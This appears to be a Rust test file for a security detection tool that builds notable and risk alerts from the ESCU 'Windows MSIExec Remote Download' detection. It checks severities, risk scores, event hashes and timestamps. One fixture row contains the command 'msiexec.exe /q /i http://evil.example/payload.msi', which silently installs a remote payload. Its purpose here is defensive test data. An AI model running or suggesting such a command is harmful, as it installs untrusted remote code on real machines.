use super::*;
use vigil_content::ContentSet;

const SEED: &str = "Windows MSIExec Remote Download";

fn row(pairs: &[(&str, &str)]) -> Record {
    pairs.iter().map(|(k, v)| (k.to_string(), Value::str(*v))).collect()
}

fn seed_row() -> Record {
    row(&[
        ("dest", "WIN10-ART-04"),
        ("parent_process_name", "powershell.exe"),
        ("process_name", "msiexec.exe"),
        ("process", "msiexec.exe /q /i http://evil.example/payload.msi"),
        ("user", "ATTACKRANGE\\alice"),
        ("count", "1"),
        ("firstTime", "2026-11-20T10:15:01"),
        ("lastTime", "2026-11-20T10:15:01"),
    ])
}

fn ctx() -> AlertContext {
    AlertContext { run_time: 1_800_000_000_000_000, ..Default::default() }
}

fn split(alerts: &[Alert]) -> (Vec<&Notable>, Vec<&RiskEvent>) {
    let mut n = Vec::new();
    let mut r = Vec::new();
    for a in alerts {
        match a {
            Alert::Notable(x) => n.push(x),
            Alert::Risk(x) => r.push(x),
        }
    }
    (n, r)
}

/// The old (v4) ESCU copy of the seed: observables, risk_score, confidence/impact, message.
fn old_format() -> Detection {
    let yaml = r#"
name: Windows MSIExec Remote Download
id: 6aa49ff2-3c92-4586-83e0-d83eb693dfda
version: 4
type: TTP
description: old
search: '| tstats count from datamodel=Endpoint.Processes'
tags:
  analytic_story: [Windows System Binary Proxy Execution MSIExec]
  confidence: 50
  impact: 70
  message: An instance of $parent_process_name$ spawning $process_name$ was identified on endpoint $dest$ by user $user$ attempting to download a remote file.
  mitre_attack_id: [T1218.007]
  observable:
  - {name: user, type: User, role: [Victim]}
  - {name: dest, type: Hostname, role: [Victim]}
  - {name: parent_process_name, type: Process Name, role: [Attacker]}
  - {name: process_name, type: Process, role: [Attacker]}
  risk_score: 35
  security_domain: endpoint
"#;
    serde_norway::from_str(yaml).unwrap()
}

fn ttp_deployment() -> Deployment {
    let set = ContentSet::builtin();
    set.deployment_for(set.detection(SEED).unwrap()).unwrap().clone()
}

#[test]
fn seed_new_format_notable_and_two_risk_events() {
    let set = ContentSet::builtin();
    let det = set.detection(SEED).unwrap();
    let alerts = build_alerts(det, set.deployment_for(det), &[seed_row()], &ctx());
    let (n, r) = split(&alerts);
    assert_eq!(n.len(), 1);
    assert_eq!(r.len(), 2);
    let n = n[0];
    assert_eq!(n.search_name, "ESCU - Windows MSIExec Remote Download - Rule");
    assert_eq!(n.rule_title, SEED);
    assert!(n.rule_description.starts_with("The following analytic detects the use of msiexec.exe"));
    assert_eq!(n.severity, Severity::Low);
    assert_eq!(n.urgency, Severity::Low);
    assert_eq!(n.time, ctx().run_time);
    assert_eq!(n.fields.names().collect::<Vec<_>>(), ["user", "dest"]);
    assert_eq!(n.annotations.mitre_tactic, ["defense-evasion"]);
    assert_eq!(n.drilldown_searches.len(), 2);
    assert!(n.drilldown_searches[0].search.contains("user = \"ATTACKRANGE\\alice\" dest = \"WIN10-ART-04\""));
    assert!(n.drilldown_searches[0].search.starts_with("| tstats"));
    assert_eq!(n.drilldown_searches[0].earliest_offset.as_deref(), Some("0"));
    let msg = "An instance of powershell.exe spawning msiexec.exe was identified on endpoint WIN10-ART-04 by user ATTACKRANGE\\alice attempting to download a remote file.";
    assert_eq!((r[0].risk_object.as_str(), r[0].risk_object_type.as_str(), r[0].risk_score), ("ATTACKRANGE\\alice", "user", 35.0));
    assert_eq!((r[1].risk_object.as_str(), r[1].risk_object_type.as_str(), r[1].risk_score), ("WIN10-ART-04", "system", 35.0));
    for e in &r {
        assert_eq!(e.risk_message, msg);
        assert_eq!(e.threat_object, ["msiexec.exe", "powershell.exe"]);
        assert_eq!(e.threat_object_type, ["process_name", "parent_process_name"]);
        assert_eq!(e.detection_version, "10");
    }
    let json = serde_json::to_value(&alerts[0]).unwrap();
    assert_eq!(json["kind"], "notable");
    assert_eq!(json["user"], "ATTACKRANGE\\alice");
    assert_eq!(json["orig_process_name"], "msiexec.exe");
    assert_eq!(json["_time"], 1_800_000_000i64);
    let json = serde_json::to_value(&alerts[1]).unwrap();
    assert_eq!(json["kind"], "risk");
    assert_eq!(json["risk_score"], 35);
    assert_eq!(json["threat_object_type"][1], "parent_process_name");
}

#[test]
fn old_format_observables_score_and_message() {
    let det = old_format();
    let spec = risk_spec(&det);
    assert_eq!(
        spec.risk_objects.iter().map(|o| (o.field.as_str(), o.kind.as_str(), o.score)).collect::<Vec<_>>(),
        [("user", "user", 35.0), ("dest", "system", 35.0)]
    );
    assert_eq!(
        spec.threat_objects.iter().map(|o| (o.field.as_str(), o.kind.as_str())).collect::<Vec<_>>(),
        [("parent_process_name", "process_name"), ("process_name", "process")]
    );
    let alerts = build_alerts(&det, Some(&ttp_deployment()), &[seed_row()], &ctx());
    let (n, r) = split(&alerts);
    assert_eq!((n.len(), r.len()), (1, 2));
    assert!(r[0].risk_message.starts_with("An instance of powershell.exe spawning msiexec.exe"));
    assert_eq!(n[0].detection_version, "4");
}

#[test]
fn old_format_score_from_confidence_and_impact() {
    let mut det = old_format();
    det.tags.risk_score = None;
    det.tags.confidence = Some(90.0);
    det.tags.impact = Some(85.0);
    let spec = risk_spec(&det);
    assert_eq!(spec.risk_objects[0].score, 76.0);
    let alerts = build_alerts(&det, Some(&ttp_deployment()), &[seed_row()], &ctx());
    let (n, _) = split(&alerts);
    assert_eq!(n[0].severity, Severity::High);
    assert_eq!(n[0].urgency, Severity::Medium);
}

#[test]
fn severities_and_urgency() {
    let s = [
        (0.0, "informational"),
        (20.0, "informational"),
        (21.0, "low"),
        (40.0, "low"),
        (56.0, "medium"),
        (80.0, "high"),
        (81.0, "critical"),
        (100.0, "critical"),
    ];
    for (score, want) in s {
        assert_eq!(severity_for_score(score).as_str(), want, "score {score}");
    }
    assert_eq!(urgency(Severity::Unknown, Severity::Critical), Severity::High);
    assert_eq!(urgency(Severity::Unknown, Severity::Medium), Severity::Low);
    assert_eq!(urgency(Severity::High, Severity::High), Severity::High);
}

#[test]
fn multivalue_risk_object_gives_one_event_per_value_and_null_is_skipped() {
    let set = ContentSet::builtin();
    let det = set.detection(SEED).unwrap();
    let mut r = seed_row();
    r.set("dest", Value::Multi(vec!["h1".into(), "h2".into(), "h1".into()]));
    r.set("user", Value::str("null"));
    r.set("parent_process_name", Value::Multi(vec!["a.exe".into(), "b.exe".into()]));
    let alerts = build_alerts(det, set.deployment_for(det), &[r], &ctx());
    let (n, risk) = split(&alerts);
    assert_eq!(n.len(), 1);
    assert_eq!(risk.iter().map(|e| e.risk_object.as_str()).collect::<Vec<_>>(), ["h1", "h2"]);
    assert_eq!(risk[0].threat_object, ["msiexec.exe", "a.exe", "b.exe"]);
    assert_eq!(risk[0].threat_object_type, ["process_name", "parent_process_name", "parent_process_name"]);
    assert!(risk[0].risk_message.contains("An instance of a.exe,b.exe spawning"));
    assert!(risk[0].risk_message.contains("by user null"));
}

#[test]
fn missing_field_keeps_token_and_row_time_wins() {
    let set = ContentSet::builtin();
    let det = set.detection(SEED).unwrap();
    let mut r = seed_row();
    r.remove("user");
    r.set("_time", Value::str("1700000000.5"));
    let alerts = build_alerts(det, set.deployment_for(det), &[r], &ctx());
    let (n, risk) = split(&alerts);
    assert_eq!(n[0].time, 1_700_000_000_500_000);
    assert!(n[0].fields.get("user").is_none());
    assert_eq!(risk.len(), 1);
    assert!(risk[0].risk_message.ends_with("by user $user$ attempting to download a remote file."));
}

#[test]
fn deployment_decides_actions() {
    let set = ContentSet::builtin();
    let det = set.detection(SEED).unwrap();
    let mut anomaly = ttp_deployment();
    anomaly.alert_action.notable = None;
    let alerts = build_alerts(det, Some(&anomaly), &[seed_row()], &ctx());
    let (n, r) = split(&alerts);
    assert_eq!((n.len(), r.len()), (0, 2));
    let hunting = Deployment::default();
    assert!(build_alerts(det, Some(&hunting), &[seed_row()], &ctx()).is_empty());
    assert!(build_alerts(det, None, &[seed_row()], &ctx()).is_empty());
    let mut correlation = ttp_deployment();
    correlation.alert_action.rba = None;
    let alerts = build_alerts(det, Some(&correlation), &[seed_row()], &ctx());
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].kind(), "notable");
}

#[test]
fn identity_ignores_run_specific_fields() {
    let a = seed_row();
    let mut b = seed_row();
    b.set("count", Value::str("7"));
    b.set("lastTime", Value::str("2026-11-21T00:00:00"));
    b.set("info_search_time", Value::str("1"));
    assert_eq!(identity_hash(&a), identity_hash(&b));
    b.set("firstTime", Value::str("2026-11-21T00:00:00"));
    assert_ne!(identity_hash(&a), identity_hash(&b));
    let set = ContentSet::builtin();
    let det = set.detection(SEED).unwrap();
    let run1 = build_alerts(det, set.deployment_for(det), std::slice::from_ref(&a), &ctx());
    let later = AlertContext { run_time: ctx().run_time + 3_600_000_000, ..Default::default() };
    let run2 = build_alerts(det, set.deployment_for(det), &[a], &later);
    let h1: Vec<_> = run1.iter().map(|x| x.event_hash().to_string()).collect();
    let h2: Vec<_> = run2.iter().map(|x| x.event_hash().to_string()).collect();
    assert_eq!(h1, h2);
    assert_eq!(h1.iter().collect::<std::collections::HashSet<_>>().len(), 3);
}

#[test]
fn activity_stamp_uses_last_time_else_first_time_else_run_time() {
    let det = old_format();
    let tz = vigil_time::Tz::parse("UTC").unwrap();
    let actx = AlertContext { stamp: Stamp::Activity(tz.clone()), ..ctx() };
    // lastTime as security_content_ctime renders it: 2026-11-20T10:15:01 UTC.
    assert_eq!(alert_time(&seed_row(), &actx), 1_795_169_701_000_000);
    let mut r = seed_row();
    r.remove("lastTime");
    r.set("firstTime", Value::str("11/20/2026 10:15:00"));
    assert_eq!(alert_time(&r, &actx), 1_795_169_700_000_000);
    r.set("firstTime", Value::Num(1_700_000_000.0));
    assert_eq!(alert_time(&r, &actx), 1_700_000_000_000_000);
    r.remove("firstTime");
    assert_eq!(alert_time(&r, &actx), ctx().run_time);
    // The row's own _time wins in both modes; run-time stamping ignores lastTime.
    let mut own = seed_row();
    own.set("_time", Value::Num(1_600_000_000.0));
    assert_eq!(alert_time(&own, &actx), 1_600_000_000_000_000);
    assert_eq!(alert_time(&seed_row(), &ctx()), ctx().run_time);
    // Rendered in another zone, lastTime is read back in that zone.
    let paris = vigil_time::Tz::parse("Europe/Paris").unwrap();
    let in_paris = AlertContext { stamp: Stamp::Activity(paris), ..ctx() };
    assert_eq!(alert_time(&seed_row(), &in_paris), 1_795_169_701_000_000 - 3_600_000_000);
    let alerts = build_alerts(&det, Some(&ttp_deployment()), &[seed_row()], &actx);
    assert!(alerts.iter().all(|a| a.time() == 1_795_169_701_000_000));
}
